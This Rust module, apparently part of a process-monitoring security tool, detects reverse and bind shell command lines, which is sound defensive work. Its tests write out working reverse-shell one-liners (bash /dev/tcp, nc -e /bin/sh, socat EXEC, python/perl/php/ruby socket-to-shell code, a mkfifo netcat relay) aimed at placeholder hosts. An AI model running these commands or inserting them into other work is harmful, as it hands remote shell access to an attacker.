//! Command-line shapes of reverse and bind shells, judged on the exec'd argument vector alone.

use super::super::shell::{dash_c_script, is_interpreter, is_shell};
use crate::proctable::basename;

/// Which reverse-shell idiom a command line uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Idiom {
    /// A shell redirecting its stdin/stdout to `/dev/tcp/HOST/PORT` or `/dev/udp/…`.
    DevTcp,
    /// `nc -e /bin/sh`, `ncat --exec`, `ncat --sh-exec`.
    NetcatExec,
    /// `socat … exec:/bin/sh …` or `system:` with a TCP address.
    SocatExec,
    /// A python/perl/php/ruby one-liner that opens a socket and hands it to a shell or pty.
    InterpreterSocket,
    /// `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`.
    FifoRelay,
}

impl Idiom {
    pub fn describe(self) -> &'static str {
        match self {
            Idiom::DevTcp => "shell redirected to /dev/tcp",
            Idiom::NetcatExec => "netcat executing a program for the connection",
            Idiom::SocatExec => "socat executing a program for the connection",
            Idiom::InterpreterSocket => "interpreter one-liner handing a socket to a shell",
            Idiom::FifoRelay => "named pipe relaying a shell through netcat",
        }
    }
}

fn is_netcat(name: &str) -> bool {
    matches!(
        name,
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"
    )
}

/// The idiom `argv` (of an exec of `filename`) uses, if any.
pub fn classify(filename: &str, argv: &[String]) -> Option<Idiom> {
    let prog = basename(filename);
    let arg0 = argv.first().map_or("", |a| basename(a));
    let name = if prog.is_empty() { arg0 } else { prog };
    if is_netcat(name) || is_netcat(arg0) {
        return netcat_exec(argv).then_some(Idiom::NetcatExec);
    }
    if name == "socat" {
        return socat_exec(argv).then_some(Idiom::SocatExec);
    }
    if is_shell(name) {
        let script = dash_c_script(argv).map_or_else(|| argv.join(" "), str::to_owned);
        return script_idiom(&script);
    }
    if is_interpreter(name) {
        let code = argv.iter().skip(1).map(String::as_str).collect::<Vec<_>>();
        return interpreter_socket(&code.join(" ")).then_some(Idiom::InterpreterSocket);
    }
    // A renamed shell (`cp /bin/bash /tmp/x; /tmp/x -c '…'`): the name proves nothing, but a
    // `-c` script with a reverse-shell idiom is read by a shell whatever it is called.
    dash_c_script(argv).and_then(script_idiom)
}

/// Idioms inside a shell script (`sh -c SCRIPT`), including the programs it runs.
fn script_idiom(script: &str) -> Option<Idiom> {
    if (script.contains("/dev/tcp/") || script.contains("/dev/udp/")) && stdin_from_socket(script) {
        return Some(Idiom::DevTcp);
    }
    let words: Vec<String> = script
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')'))
        .filter(|w| !w.is_empty())
        .map(|w| w.trim_matches(['\'', '"']).to_owned())
        .collect();
    let has_netcat = words.iter().any(|w| is_netcat(basename(w)));
    if has_netcat && netcat_exec(&words) {
        return Some(Idiom::NetcatExec);
    }
    if words.iter().any(|w| basename(w) == "socat") && socat_exec(&words) {
        return Some(Idiom::SocatExec);
    }
    let relay =
        has_netcat || words.iter().any(|w| basename(w) == "telnet") || script.contains("s_client");
    if relay
        && (words.iter().any(|w| basename(w) == "mkfifo")
            || script.contains("mknod") && words.iter().any(|w| w == "p"))
    {
        return Some(Idiom::FifoRelay);
    }
    if interpreter_socket(script) && words.iter().any(|w| is_interpreter(basename(w))) {
        return Some(Idiom::InterpreterSocket);
    }
    None
}

/// The shell reads its commands from the socket: `0>&1`, `0<&N`, `<&N`, `while read`, `-i`.
fn stdin_from_socket(script: &str) -> bool {
    if script.contains("0>&1") || script.contains("0<&") || script.contains("while read") {
        return true;
    }
    let b = script.as_bytes();
    let redirect = b
        .windows(3)
        .any(|w| w[0] == b'<' && w[1] == b'&' && w[2].is_ascii_digit());
    let interactive = script.split_whitespace().any(|w| w == "-i");
    interactive && (redirect || script.contains(">&"))
}

fn netcat_exec(argv: &[String]) -> bool {
    argv.iter().any(|a| {
        matches!(
            a.as_str(),
            "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
        ) || a.starts_with("--exec=")
            || a.starts_with("--sh-exec=")
            || (a.starts_with('-')
                && !a.starts_with("--")
                && a.len() > 2
                && a[1..].bytes().all(|c| c.is_ascii_alphabetic())
                && a.ends_with('e'))
    })
}

fn socat_exec(argv: &[String]) -> bool {
    let lower: Vec<String> = argv.iter().map(|a| a.to_ascii_lowercase()).collect();
    let exec = lower
        .iter()
        .any(|a| a.starts_with("exec:") || a.starts_with("system:"));
    let tcp = lower
        .iter()
        .any(|a| a.starts_with("tcp") || a.starts_with("udp") || a.starts_with("openssl"));
    exec && tcp
}

/// Interpreter code that opens a socket and gives it to a shell or a pty.
fn interpreter_socket(code: &str) -> bool {
    let socket = ["socket", "Socket", "fsockopen", "TCPSocket", "UDPSocket"]
        .iter()
        .any(|s| code.contains(s));
    if !socket {
        return false;
    }
    [
        "dup2",
        "pty.spawn",
        "subprocess",
        "/bin/sh",
        "/bin/bash",
        "exec(",
        "exec \"",
        "proc_open",
        "shell_exec",
        "passthru",
        "popen",
        "spawn(",
        "open(STDIN",
        "system(",
    ]
    .iter()
    .any(|s| code.contains(s))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(args: &[&str]) -> Vec<String> {
        args.iter().map(|s| (*s).to_owned()).collect()
    }

    #[test]
    fn positives() {
        let cases: &[(&str, &[&str], Idiom)] = &[
            (
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"],
                Idiom::DevTcp,
            ),
            (
                "/bin/sh",
                &[
                    "sh",
                    "-c",
                    "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196",
                ],
                Idiom::DevTcp,
            ),
            (
                "/usr/bin/bash",
                &[
                    "bash",
                    "-c",
                    "exec 5<>/dev/tcp/h/1;cat <&5 | while read l; do $l 2>&5 >&5; done",
                ],
                Idiom::DevTcp,
            ),
            (
                "/usr/bin/nc.traditional",
                &["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
                Idiom::NetcatExec,
            ),
            (
                "/usr/bin/ncat",
                &["ncat", "10.0.0.9", "4444", "--sh-exec", "sh"],
                Idiom::NetcatExec,
            ),
            (
                "/usr/bin/nc",
                &["nc", "-nve", "/bin/bash", "h", "1"],
                Idiom::NetcatExec,
            ),
            (
                "/usr/bin/socat",
                &["socat", "TCP:10.0.0.9:4444", "EXEC:/bin/bash,pty,stderr"],
                Idiom::SocatExec,
            ),
            (
                "/usr/bin/python3",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();s.connect(('h',1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')",
                ],
                Idiom::InterpreterSocket,
            ),
            (
                "/usr/bin/perl",
                &[
                    "perl",
                    "-e",
                    "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
                ],
                Idiom::InterpreterSocket,
            ),
            (
                "/usr/bin/php",
                &[
                    "php",
                    "-r",
                    "$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
                ],
                Idiom::InterpreterSocket,
            ),
            (
                "/usr/bin/ruby",
                &[
                    "ruby",
                    "-rsocket",
                    "-e",
                    "c=TCPSocket.new(\"h\",1);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end",
                ],
                Idiom::InterpreterSocket,
            ),
            (
                "/bin/sh",
                &[
                    "sh",
                    "-c",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.9 4444 >/tmp/f",
                ],
                Idiom::FifoRelay,
            ),
            (
                "/bin/sh",
                &["sh", "-c", "nc -e /bin/sh 10.0.0.9 4444"],
                Idiom::NetcatExec,
            ),
            (
                "/tmp/.x",
                &["/tmp/.x", "-c", "/tmp/.x -i >& /dev/tcp/10.0.0.9/4444 0>&1"],
                Idiom::DevTcp,
            ),
        ];
        for (file, argv, want) in cases {
            assert_eq!(classify(file, &v(argv)), Some(*want), "{argv:?}");
        }
    }

    #[test]
    fn negatives() {
        let cases: &[(&str, &[&str])] = &[
            ("/usr/bin/nc", &["nc", "-zv", "10.0.0.9", "22"]),
            ("/usr/bin/nc", &["nc", "-l", "-p", "8080"]),
            (
                "/usr/bin/bash",
                &["bash", "-c", "cat < /dev/tcp/time.example/13"],
            ),
            ("/usr/bin/bash", &["bash", "-c", "echo hi > /dev/null 2>&1"]),
            (
                "/usr/bin/socat",
                &["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"],
            ),
            (
                "/usr/bin/python3",
                &[
                    "python3",
                    "-c",
                    "import socket; print(socket.gethostname())",
                ],
            ),
            (
                "/usr/bin/python3",
                &["python3", "-m", "http.server", "8000"],
            ),
            ("/usr/bin/ls", &["ls", "/dev/tcp/", "-i", "0>&1"]),
            ("/usr/bin/bash", &["bash", "/usr/local/bin/backup.sh"]),
            ("/usr/bin/ssh", &["ssh", "-c", "aes128-ctr", "host"]),
            ("/tmp/.x", &["/tmp/.x", "-c", "echo /dev/tcp"]),
        ];
        for (file, argv) in cases {
            assert_eq!(classify(file, &v(argv)), None, "{argv:?}");
        }
    }
}

#[cfg(test)]
mod prop {
    use super::*;

    proptest::proptest! {
        /// Any argument vector (attacker-controlled) is classified without a panic, and a
        /// command line classified as an idiom keeps that idiom with junk appended.
        #[test]
        fn classify_never_panics(
            file in "\\PC{0,40}",
            argv in proptest::collection::vec("\\PC{0,60}", 0..8),
        ) {
            let _ = classify(&file, &argv);
        }

        #[test]
        fn dev_tcp_survives_trailing_words(extra in proptest::collection::vec("[a-z0-9 ]{0,12}", 0..4)) {
            let mut script = String::from("bash -i >& /dev/tcp/10.1.2.3/4444 0>&1");
            for e in &extra {
                script.push(' ');
                script.push_str(e);
            }
            let argv = vec!["bash".to_owned(), "-c".to_owned(), script];
            proptest::prop_assert_eq!(classify("/usr/bin/bash", &argv), Some(Idiom::DevTcp));
        }
    }
}
